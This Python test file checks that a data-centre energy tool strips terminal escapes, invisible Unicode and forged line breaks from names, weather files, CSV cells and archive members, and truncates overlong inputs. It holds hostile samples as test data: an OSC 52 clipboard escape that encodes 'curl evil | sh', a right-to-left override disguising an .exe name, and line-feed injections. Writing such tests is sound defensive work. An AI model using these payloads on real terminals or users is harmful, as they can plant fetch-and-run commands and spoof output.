"""Text that commands a terminal, turns the direction of reading or is not seen, wherever it comes from and goes."""

from __future__ import annotations

import io
import json
import os
import re
import sys
import unicodedata
import zipfile
from pathlib import Path

import pytest
from attacks import HALL, SIMPLE, Call
from hypothesis import given
from hypothesis import strategies as st

from dcenergy.language import Message
from dcenergy.printable import LETTERS, printable
from dcenergy.report import markdown, workbook

OSC_52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a"
"""Fills the clipboard of whoever prints it: `curl evil | sh`."""

HOSTILE = {
    "clipboard": OSC_52,
    "title": "\x1b]0;root@host\x1b\\",
    "clear": "\x1b[2J\x1b[H",
    "C1": "\x9d52;c;YQ==\x9c",
    "carriage return": "bad\rgood",
    "backspace": "bad\b\b\bgood",
    "delete": "a\x7f",
    "override": "\u202egpj.exe",
    "isolate": "\u2066a\u2069",
    "mark": "a\u200fb",
    "Arabic mark": "a\u061cb",
    "no width": "a\u200bb\u200db\ufeffc",
    "soft hyphen": "a\xadb",
    "tags": "a\U000e0041b",
    "filler": "a\u3164b",
    "selectors": "a\U000e0101b\ufe01c",
    "line separator": "a\u2028b",
}
hostile = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)


def hidden(text: str) -> set[str]:
    """Letters that a terminal obeys or nobody sees, by Unicode's categories; line feeds and tabs aside."""
    categories = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    more = "\u034f\u115f\u1160\u3164\uffa0\ufe01\U000e0101"
    return {
        each for each in text if (unicodedata.category(each) in categories or each in more) and each not in "\n\t"
    }


@given(st.text())
def test_nothing_hidden_is_left_and_nothing_seen_is_lost(text: str):
    shown = printable(text)
    assert not hidden(shown)
    if not hidden(text):
        assert shown == text or any(unicodedata.category(each) in {"Cn", "Mn"} for each in text)


@pytest.mark.parametrize("text", ["湖水 مركز بيانات", "São Paulo – Zürich", "½ °C ≥ 5 µg/m³", "日本語"])
def test_names_of_the_world_stay_as_they_are(text: str):
    assert printable(text) == text


def spoilt(text: str) -> str:
    """Text as it may stand in one line of a file."""
    return text.replace("\r", "").replace("\u2028", "")


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "project").mkdir()
    monkeypatch.chdir(tmp_path / "project")
    return tmp_path / "project"


@pytest.fixture(scope="module")
def year(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A typical year, as an EPW of somebody else; its city is CITY."""
    from dcenergy.weather import epw as writing
    from dcenergy.weather import normals, places

    climate = places.find("zixing")
    lines = writing.text(normals.generate(climate, climate.place, 0)).split("\n")
    fields = lines[0].split(",")
    lines[0] = ",".join(["LOCATION", "CITY", "-", "CHN", "SYNTHETIC", *fields[5:]])
    return "\n".join(lines)


@hostile
def test_a_city_of_an_epw(folder: Path, call: Call, year: str, text: str):
    (folder / "a.epw").write_bytes(year.replace("CITY", spoilt(text), 1).encode())
    (folder / "a.yaml").write_text(SIMPLE + "site: {weather: {file: a.epw}}\n")
    shown = [call("weather", "info", "a.epw").said, call("weather", "normals", "a.epw").said]
    done = call("run", "a.yaml", "--markdown", "a.md", "--json", "a.json")
    assert done.code == 0, done.err
    shown += [done.said, call("run", "a.yaml", "--no-report", "--json", "-").said]
    shown += [Path(name).read_text(encoding="utf-8") for name in ("a.html", "a.md", "a.json")]
    for each in shown:
        assert hidden(each) <= {markdown.BREAK}
    # the JSON's reader gets it as it was
    assert spoilt(text) in json.loads(shown[-1])["weather"]["name"]


@hostile
def test_a_name_of_a_profile(folder: Path, call: Call, text: str):
    (folder / "a.yaml").write_text(f"name: {json.dumps('x' + text)}\n{HALL}", encoding="utf-8")
    done = call("run", "a.yaml", "--markdown", "a.md")
    assert not hidden(done.said)
    if done.code == 0:
        assert not hidden(Path("a.html").read_text(encoding="utf-8"))
        assert not hidden(Path("a.md").read_text(encoding="utf-8"))
    assert not hidden(call("compare", "a.yaml", "--no-report").said)
    assert not hidden(call("check", "a.yaml").said)


def test_a_name_of_a_profile_writes_no_line_of_ours(folder: Path, call: Call):
    Path("a.yaml").write_text(f'name: "x\\nPUE 1.00"\n{HALL}')
    for command in ("run", "compare"):
        done = call(command, "a.yaml", "--no-report")
        assert done.code == 0
        assert not [line for line in done.out.splitlines() if line.startswith("PUE 1.00")]


@hostile
def test_a_name_of_a_file(folder: Path, call: Call, text: str):
    name = f"x{text}.yaml".replace("/", "")
    (folder / name).write_text(SIMPLE)
    done = call("run", name)
    assert done.code == 0
    assert not hidden(done.said)
    (folder / name).write_text(SIMPLE.replace("count: 1000", "count: -1"))
    done = call("check", name)
    assert done.code == 2
    assert not hidden(done.said)
    assert not hidden(call("check", f"missing{text}").said)


def test_a_name_of_a_file_that_is_no_text(folder: Path, call: Call):
    name = os.fsdecode(b"x\xff\x1b.yaml")
    Path(name).write_text(SIMPLE)
    done = call("run", name)
    assert done.code == 0
    assert r"x\udcff\x1b" in done.said


def test_a_name_with_a_line_feed_writes_no_line_of_ours(folder: Path, call: Call):
    name = "x\nall is well.yaml"
    Path(name).write_text("name: [")
    assert not [line for line in call("check", name).said.splitlines() if line.startswith("all is well")]
    note = Message("The air was read from {file}.", file="a\nThe figures are final.epw")
    assert "\n" not in note
    assert "\n" not in note.text()


@hostile
def test_a_member_of_an_archive(folder: Path, call: Call, text: str):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr(f"{text}.epw", "LOCATION,")
    (folder / "a.epw").write_bytes(content.getvalue())
    done = call("weather", "info", "a.epw")
    assert done.code == 2
    assert "is a zip archive" in done.err
    assert not hidden(done.said)


@hostile
def test_a_cell_of_a_csv(folder: Path, call: Call, text: str):
    (folder / "a.csv").write_text(f"time,temp_c,humidity_pct\n2024-01-01 00:00,{spoilt(text)},50\n")
    done = call("weather", "info", "a.csv", "--lat", "50", "--lon", "8", "--alt", "1", "--utc-offset", "1")
    assert done.code == 2
    assert not hidden(done.said)


@hostile
def test_a_cell_of_a_workbook(text: str):
    assert not hidden(workbook.text(text))


def test_streams_are_given_back(folder: Path, call: Call):
    out, err = sys.stdout, sys.stderr
    call("profiles", "list")
    assert (sys.stdout, sys.stderr) == (out, err)


LONG = "Q" * 3000
TWIN = f"{{name: {LONG}, it: {{servers: [{{count: 1}}]}}, cooling: {{system: fixed_pue, pue: 1.2}}}}"
FILES = {
    "value": SIMPLE.replace("1.2", LONG),
    "choice": SIMPLE.replace("fixed_pue", LONG),
    "key": SIMPLE + f"{LONG[:90]}: 1\n",
    "nested key": SIMPLE.replace("pue: 1.2", f"{LONG[:90]}: 1.2"),
    "tag": SIMPLE + f"x: !{LONG} 1\n",
    "tag handle": SIMPLE + f"x: !{LONG}!a 1\n",
    "alias": SIMPLE + f"x: *{LONG}\n",
    "escape": SIMPLE + f'x: "\\{LONG}"\n',
    "number key": SIMPLE + f"{'9' * 90}: 1\n",
    "twin halls": f"name: A\nhalls:\n- {TWIN}\n- {TWIN}\n",
    "extends": f"extends: {LONG}\n",
    "opens": SIMPLE + f"site: {{opens: {LONG}}}\n",
    "place": SIMPLE + f"site: {{weather: {{normals: {LONG}}}}}\n",
    "weather": SIMPLE + f"site: {{weather: {{file: {LONG}}}}}\n",
    "factor": SIMPLE + f"supply: {{grid: {{factor: {LONG}}}}}\n",
    "currency": SIMPLE + f"cost: {{currency: {LONG}}}\n",
    "rules": SIMPLE + f"compliance: [{LONG}]\n",
    "baseline": SIMPLE + f"baseline: {{profile: {LONG}}}\n",
    "source": SIMPLE.replace("1.2", f"{{value: 1.2, source: {LONG}}}"),
}  # fmt: skip


@pytest.mark.parametrize("key", FILES)
def test_an_error_repeats_at_most_forty_letters_of_a_profile(folder: Path, call: Call, key: str):
    (folder / "a.yaml").write_text(FILES[key])
    said = call("run", "a.yaml", "--no-report").said
    longest = max(map(len, re.findall(r"Q+|9+", said)), default=0)
    assert longest <= LETTERS, said


TABLES = {
    "first line": LONG,
    "names": f"{LONG},{LONG[:50]}a,time\n1,2,3\n",
    "capitals": f"TEMP_C,{LONG}\n1,2\n",
    "cell": f"time,temp_c,humidity_pct\n2024-01-01 00:00,{LONG},50\n",
    "epw header": f"LOCATION,a,-,-,x,0,{LONG},0,0,0\n",
    "tmy3 header": f"{LONG},a,-,0,0,0,0\nDate (MM/DD/YYYY),Time (HH:MM),\n",
}


@pytest.mark.parametrize("key", TABLES)
def test_an_error_repeats_at_most_forty_letters_of_a_table(folder: Path, call: Call, key: str):
    (folder / "a.csv").write_text(TABLES[key])
    done = call("weather", "info", "a.csv", "--lat", "50", "--lon", "8", "--alt", "1", "--utc-offset", "1")
    assert done.code == 2
    assert max(map(len, re.findall(r"Q+", done.said)), default=0) <= LETTERS, done.said
    done = call("weather", "make", "--normals", "a.csv", "b.epw")
    assert max(map(len, re.findall(r"Q+", done.said)), default=0) <= LETTERS, done.said
